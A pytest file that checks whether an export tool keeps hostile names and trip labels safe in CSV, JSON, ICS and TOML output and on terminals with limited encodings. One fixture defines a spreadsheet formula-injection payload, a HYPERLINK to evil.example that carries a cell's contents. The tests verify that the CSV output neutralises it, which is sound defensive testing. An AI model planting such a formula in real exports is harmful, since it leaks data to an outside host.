"""Names as hostile as the registry lets through, in every export and on terminals that cannot show them."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import icalendar
import pytest

from ingest.store import Store
from tests.conftest import environment, tarnlight_here
from tests.lamp_fleet import NAMES, NOW, fleet_toml, lamp_store, slug

NAME = "Łąka 🌲 <b>=1+1</b> ¶ |*x*|"
TRIP = '=HYPERLINK("http://evil.example/?"&A1,"press")'


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile-names") / "tarnlight.duckdb"
    lamp_store(path)
    text = fleet_toml()
    for name in NAMES:
        text = text.replace(f'name = "{name}"', f"name = {json.dumps(f'{NAME} {name}', ensure_ascii=False)}")
    for trip in ("north-shore", "south-arm"):
        text = text.replace(f'trip = "{trip}"', f"trip = {json.dumps(TRIP + trip)}")
    store = Store(path)
    store.act("enroll", {"text": text})
    store.act("advisory-raise", {"cabin": slug(NAMES[0]), "unit": "main", "by": "=Łucja"})
    store.close()
    return path


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_cell_of_a_csv_is_a_formula_and_numbers_stay_numbers(fleet: Path) -> None:
    for words in (("visits", "--csv"), ("lamps", "--csv")):
        head, *body = rows(tarnlight_here(fleet, *words).stdout)
        assert body
        for row in body:
            for name, cell in zip(head, row, strict=True):
                if cell[:1] in ("=", "+", "-", "@", "\t"):
                    float(cell)  # else it would be a formula
                if name in ("work_min", "trip_distance_km"):
                    assert float(cell) >= 0
    trips = {row[1] for row in rows(tarnlight_here(fleet, "visits", "--csv").stdout)[1:]}
    assert trips and all(one.startswith("'" + TRIP) for one in trips)


def test_other_exports_hold_the_names_as_they_are(fleet: Path) -> None:
    plan = json.loads(tarnlight_here(fleet, "visits", "--json").stdout)
    assert any(trip["trip"].startswith(TRIP) for trip in plan)
    for words in (("visits", "--ics"), ("lamps", "--ics")):
        events = icalendar.Calendar.from_ical(tarnlight_here(fleet, *words).stdout).walk("VEVENT")
        assert any(NAME in str(event.get("DESCRIPTION", "")) + str(event.get("SUMMARY", "")) for event in events)
    exported = tarnlight_here(fleet, "enroll", "--export").stdout
    assert NAME in exported and json.dumps(TRIP + "south-arm") in exported


COMMANDS = (
    ("status",), ("lamps",), ("visits",), ("report", "--cabin", slug(NAMES[0]), "--month", f"{NOW:%Y-%m}"),
    ("advisory", "list"), ("outages",), ("doctor",))


@pytest.mark.parametrize("encoding", ["cp1252", pytest.param("ascii", marks=pytest.mark.slow)])
@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: words[0])
def test_what_a_terminal_cannot_show_never_ends_a_list(fleet: Path, words: tuple[str, ...], encoding: str) -> None:
    whole = tarnlight_here(fleet, *words)
    out = subprocess.run(
        [sys.executable, "-m", "dashboard.cli", *words], env=environment(fleet) | {"PYTHONIOENCODING": encoding},
        capture_output=True, timeout=120, cwd=fleet.parent, check=False)
    assert b"Traceback" not in out.stderr and out.returncode == whole.returncode
    shown = out.stdout.decode(encoding).splitlines()
    assert len(shown) == len(whole.stdout.splitlines())
    if words[0] != "doctor":  # it tells ages
        assert shown == whole.stdout.encode(encoding, "replace").decode(encoding).splitlines()


def test_json_and_the_exported_registry_lose_nothing_there(fleet: Path, tmp_path: Path) -> None:
    def bytes_of(*words: str) -> bytes:
        return subprocess.run(
            [sys.executable, "-m", "dashboard.cli", *words], capture_output=True, timeout=120, cwd=fleet.parent,
            env=environment(fleet) | {"PYTHONIOENCODING": "cp1252"}, check=True).stdout

    plan = json.loads(bytes_of("visits", "--json", "--from", NAME, "45.30,-79.30"))
    assert {trip["from"] for trip in plan if trip["day"]} == {NAME}
    exported = tmp_path / "fleet.toml"
    exported.write_bytes(bytes_of("enroll", "--export"))
    assert NAME in exported.read_text(encoding="utf-8")
    told = tarnlight_here(fleet, "enroll", str(exported))
    assert told.returncode == 0 and "0 new, 0 changed" in told.stdout
